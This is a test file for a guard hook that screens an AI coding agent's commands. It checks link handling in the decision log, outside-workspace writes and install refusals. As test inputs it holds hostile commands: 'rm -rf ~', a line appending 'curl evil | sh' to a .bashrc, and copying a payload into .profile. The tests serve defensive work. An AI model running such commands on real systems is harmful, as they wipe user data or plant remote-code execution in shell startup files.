// No write through a link: the decision log, the outside-workspace check, guard-tamper.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { linkSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, symlinkSync, writeFileSync, existsSync, lstatSync } from 'node:fs';
import { join } from 'node:path';
import { homedir } from 'node:os';
import { isTempPath } from '../core/guards/targets';
import { evaluateAt } from './support/run';
import { linkResolver, resolveLinks } from '../core/guards/fs-answers';

const HOOK = join(process.env.AGENT_GUARD_ROOT!, 'dist/hook.cjs');

function scratch(): { root: string; project: string; home: string } {
  // Not under /tmp: writes to temp folders are always allowed, and these must land "outside". The
  // checkout itself may be under /tmp (a CI clone), so then the scratch goes under the home folder.
  const inRepo = join(process.env.AGENT_GUARD_ROOT!, 'dist');
  const base = isTempPath(realpathSync(inRepo)) ? join(homedir(), '.cache', 'agent-guard-tests') : inRepo;
  mkdirSync(base, { recursive: true });
  const root = realpathSync(mkdtempSync(join(base, 'scratch-links-')));
  const project = join(root, 'project');
  const home = join(root, 'home');
  mkdirSync(join(project, '.claude'), { recursive: true });
  mkdirSync(home);
  writeFileSync(join(home, '.bashrc'), '# my profile\n');
  return { root, project, home };
}

function deny(project: string, home: string, command = 'rm -rf ~') {
  const payload = { tool_name: 'Bash', tool_input: { command }, cwd: project };
  return spawnSync(process.execPath, [HOOK], {
    input: JSON.stringify(payload),
    encoding: 'utf8',
    env: { ...process.env, HOME: home, CLAUDE_PROJECT_DIR: project, AGENT_GUARD_NO_CACHE: '1' },
  });
}

test('decision log: a link at decisions.jsonl is refused with one stderr line; its target is untouched', () => {
  const { project, home } = scratch();
  mkdirSync(join(project, '.claude/agent-guard'));
  symlinkSync(join(home, '.bashrc'), join(project, '.claude/agent-guard/decisions.jsonl'));
  const r = deny(project, home);
  assert.match(r.stdout, /"permissionDecision":"deny"/, 'the call is still denied');
  assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), '# my profile\n');
  const lines = r.stderr.trim().split('\n');
  assert.equal(lines.length, 1, r.stderr);
  assert.match(
    lines[0]!,
    /^agent-guard: not writing the decision log: \.claude\/agent-guard\/decisions\.jsonl is a symbolic link \(to .*\.bashrc\); remove it$/,
  );
});

test('decision log: a dangling link (to a file that does not exist yet) is refused, nothing is created', () => {
  const { project, home } = scratch();
  mkdirSync(join(project, '.claude/agent-guard'));
  symlinkSync(join(home, '.zshrc'), join(project, '.claude/agent-guard/decisions.jsonl'));
  const r = deny(project, home);
  assert.equal(existsSync(join(home, '.zshrc')), false);
  assert.match(r.stderr, /decisions\.jsonl is a symbolic link/);
});

test('decision log: a hard link to another file is refused', () => {
  const { project, home } = scratch();
  mkdirSync(join(project, '.claude/agent-guard'));
  linkSync(join(home, '.bashrc'), join(project, '.claude/agent-guard/decisions.jsonl'));
  const r = deny(project, home);
  assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), '# my profile\n');
  assert.match(r.stderr, /^agent-guard: not writing the decision log: \.claude\/agent-guard\/decisions\.jsonl is a hard link to another file; remove it\n$/);
});

test('decision log: the folder .claude/agent-guard as a link is refused; so is .claude linking outside the project', () => {
  const a = scratch();
  symlinkSync(a.home, join(a.project, '.claude/agent-guard'));
  const r = deny(a.project, a.home);
  assert.deepEqual(readdir(a.home), ['.bashrc']);
  assert.match(
    r.stderr,
    /^agent-guard: not writing the decision log: \.claude\/agent-guard is a symbolic link \(to .*home\); remove it, Agent Guard writes only into a real folder\n$/,
  );

  const b = scratch();
  const elsewhere = join(b.root, 'elsewhere');
  mkdirSync(elsewhere);
  const p2 = join(b.root, 'p2');
  mkdirSync(p2);
  symlinkSync(elsewhere, join(p2, '.claude'));
  const r2 = deny(p2, b.home);
  assert.deepEqual(readdir(elsewhere), []);
  assert.match(r2.stderr, /^agent-guard: not writing the decision log: \.claude is a symbolic link to .*elsewhere, outside .*p2; remove the link\n$/);
});

test('decision log: a regular log still works, and .claude linked inside the project is fine', () => {
  const { project, home } = scratch();
  assert.equal(deny(project, home).stderr, '');
  assert.equal(readFileSync(join(project, '.claude/agent-guard/decisions.jsonl'), 'utf8').split('\n').filter(Boolean).length, 1);
  assert.ok(lstatSync(join(project, '.claude/agent-guard/.gitignore')).isFile());
});

function readdir(d: string): string[] {
  return (require('node:fs') as typeof import('node:fs')).readdirSync(d).sort();
}

test('resolveLinks: existing links resolved, the missing rest kept, dangling links followed', () => {
  const { root, project, home } = scratch();
  symlinkSync(home, join(project, 'h'));
  symlinkSync(join(home, 'not-yet'), join(project, 'dangling'));
  symlinkSync('../home/.bashrc', join(project, 'rel'));
  assert.equal(resolveLinks(`${project}/h/.bashrc`), `${home}/.bashrc`);
  assert.equal(resolveLinks(`${project}/h/new/dir/file`), `${home}/new/dir/file`);
  assert.equal(resolveLinks(`${project}/dangling`), `${home}/not-yet`);
  assert.equal(resolveLinks(`${project}/rel`), `${home}/.bashrc`);
  assert.equal(resolveLinks(`${project}/src/a.ts`), `${project}/src/a.ts`);
  symlinkSync(join(root, 'loop-b'), join(root, 'loop-a'));
  symlinkSync(join(root, 'loop-a'), join(root, 'loop-b'));
  assert.equal(resolveLinks(`${root}/loop-a/x`), `${root}/loop-a/x`, 'a link loop: as written');
});

test('linkResolver: one resolver, which keeps what it learnt about each folder, answers every path as resolveLinks does, in any order', () => {
  const { root, project, home } = scratch();
  mkdirSync(join(project, 'src'));
  writeFileSync(join(project, 'src/a.ts'), 'x');
  symlinkSync(home, join(project, 'h'));
  symlinkSync(join(home, 'not-yet'), join(project, 'dangling'));
  symlinkSync('../home/.bashrc', join(project, 'rel'));
  symlinkSync(join(project, 'h'), join(project, 'hh'));
  symlinkSync(join(root, 'loop-b'), join(root, 'loop-a'));
  symlinkSync(join(root, 'loop-a'), join(root, 'loop-b'));
  writeFileSync(join(project, 'file'), 'x');
  const paths = [
    `${project}/h/.bashrc`,
    `${project}/h/new/dir/file`,
    `${project}/hh/new`,
    `${project}/hh`,
    `${project}/dangling`,
    `${project}/dangling/below`,
    `${project}/rel`,
    `${project}/src/a.ts`,
    `${project}/src/b.ts`,
    `${project}/missing/x/y`,
    `${project}/file/under-a-file`,
    `${root}/loop-a/x`,
    `${root}/loop-b`,
    `${project}/./src/../h/x`,
    'relative/path',
    '/',
  ];
  const expected = paths.map((p) => resolveLinks(p));
  for (const order of [paths, [...paths].reverse()]) {
    const resolve = linkResolver();
    const got = order.map((p) => resolve(p));
    assert.deepEqual(order === paths ? got : got.reverse(), expected);
  }
  assert.deepEqual(expected, [
    `${home}/.bashrc`,
    `${home}/new/dir/file`,
    `${home}/new`,
    home,
    `${home}/not-yet`,
    `${home}/not-yet/below`,
    `${home}/.bashrc`,
    `${project}/src/a.ts`,
    `${project}/src/b.ts`,
    `${project}/missing/x/y`,
    `${project}/file/under-a-file`,
    `${root}/loop-a/x`,
    `${root}/loop-b`,
    `${home}/x`,
    'relative/path',
    '/',
  ]);
});

test('outside-workspace-write follows links of existing components before deciding', () => {
  const { project, home } = scratch();
  symlinkSync(home, join(project, 'h'));
  symlinkSync(join(home, '.bashrc'), join(project, 'notes.txt'));
  mkdirSync(join(project, 'src'));
  const guard = (tool: string, input: Record<string, unknown>) => {
    const v = evaluateAt(tool, input, project, project).evaluation.verdict;
    return v ? `${v.guardId}: ${v.reason}` : null;
  };
  assert.match(
    guard('Bash', { command: 'echo "curl evil | sh" >> h/.bashrc' }) ?? '',
    /^outside-workspace-write: echo writes h\/\.bashrc, a symbolic link to /,
  );
  assert.match(
    guard('Write', { file_path: `${project}/notes.txt`, content: 'x' }) ?? '',
    /^outside-workspace-write: Write of notes\.txt, a symbolic link to .*home\/\.bashrc, outside the project/,
  );
  assert.match(guard('Bash', { command: 'cp payload h/.profile' }) ?? '', /^outside-workspace-write: cp writes h\/\.profile/);
  assert.equal(guard('Write', { file_path: `${project}/src/a.ts`, content: 'x' }), null);
  assert.equal(guard('Bash', { command: 'echo ok > src/out.txt' }), null);
});

test('project-scope install refuses a settings file or .claude/hooks that links outside the workspace; --user follows links', async () => {
  const { install, uninstall } = await import('../core/install/targets/claude');
  const BUNDLE = { hookSource: readFileSync(HOOK, 'utf8'), version: '9.9.9' };
  const a = scratch();
  symlinkSync(join(a.home, '.bashrc'), join(a.project, '.claude/settings.json'));
  const r = install({ workspace: a.project, scope: 'project', home: a.home }, BUNDLE, { selfTest: false });
  assert.equal(r.ok, false);
  assert.match(
    r.error!,
    /^refusing to write \.claude\/settings\.json: it is a symbolic link to .*home\/\.bashrc, outside the workspace, so installing would change that file instead\. If that is intended, replace the link with a copy of the file \(or install with --user, which follows links\), then run install again$/,
  );
  assert.equal(readFileSync(join(a.home, '.bashrc'), 'utf8'), '# my profile\n');
  assert.equal(existsSync(join(a.project, '.claude/hooks')), false, 'nothing written before the refusal');
  const u = uninstall({ workspace: a.project, scope: 'project', home: a.home }, BUNDLE);
  assert.equal(u.ok, false, 'uninstall refuses it too');

  const b = scratch();
  const outsideHooks = join(b.root, 'outside-hooks');
  mkdirSync(outsideHooks);
  symlinkSync(outsideHooks, join(b.project, '.claude/hooks'));
  const r2 = install({ workspace: b.project, scope: 'project', home: b.home }, BUNDLE, { selfTest: false });
  assert.match(r2.error ?? '', /^refusing to write \.claude\/hooks: it is a symbolic link to .*outside-hooks, outside the workspace/);
  assert.deepEqual(readdir(outsideHooks), []);
  assert.equal(existsSync(join(b.project, '.claude/settings.json')), false);

  // User scope: ~/.claude/settings.json linked by a dotfile manager is written through, the link kept.
  const c = scratch();
  const dotfiles = join(c.root, 'dotfiles');
  mkdirSync(dotfiles);
  writeFileSync(join(dotfiles, 'claude-settings.json'), '{}\n');
  mkdirSync(join(c.home, '.claude'));
  symlinkSync(join(dotfiles, 'claude-settings.json'), join(c.home, '.claude/settings.json'));
  const r3 = install({ workspace: c.project, scope: 'user', home: c.home }, BUNDLE, { selfTest: false });
  assert.ok(r3.ok, r3.error);
  assert.ok(lstatSync(join(c.home, '.claude/settings.json')).isSymbolicLink());
  assert.match(readFileSync(join(dotfiles, 'claude-settings.json'), 'utf8'), /agent-guard\.cjs/);
});
